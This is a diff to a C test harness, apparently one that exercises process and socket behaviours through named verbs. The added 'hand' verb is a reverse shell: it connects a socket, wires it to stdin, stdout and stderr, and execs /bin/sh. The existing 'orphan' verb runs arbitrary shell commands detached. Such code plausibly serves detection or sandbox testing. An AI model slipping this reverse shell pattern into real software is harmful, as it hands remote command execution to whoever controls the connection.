@@ -69,6 +69,7 @@ int main(int count, char **word) {
     else if (!strcmp(verb, "orphan")) { if (!fork()) { if (!fork()) { usleep(200000); execl("/bin/sh", "sh", "-c", word[i + 1], (char *)0); _exit(1); } _exit(0); } wait(0); i++; }
     else if (!strcmp(verb, "serve")) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = at(atoi(word[++i])); bind(s, (void *)&a, sizeof a); listen(s, 1); }
     else if (!strcmp(verb, "connect")) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = at(atoi(word[++i])); connect(s, (void *)&a, sizeof a); }
+    else if (!strcmp(verb, "hand")) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = at(atoi(word[++i])); connect(s, (void *)&a, sizeof a); if (!fork()) { for (int k = 0; k < 3; k++) dup2(s, k); execl("/bin/sh", "sh", (char *)0); _exit(1); } close(s); }
     else if (!strcmp(verb, "talk")) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = at(atoi(word[++i])); connect(s, (void *)&a, sizeof a); char b[5000]; memset(b, 1, sizeof b); send(s, b, sizeof b, 0); recv(s, b, sizeof b, MSG_PEEK); recv(s, b, sizeof b, 0); close(s); }
     else { printf("unknown %s\n", verb); return 7; }
     printf("did %s\n", verb);
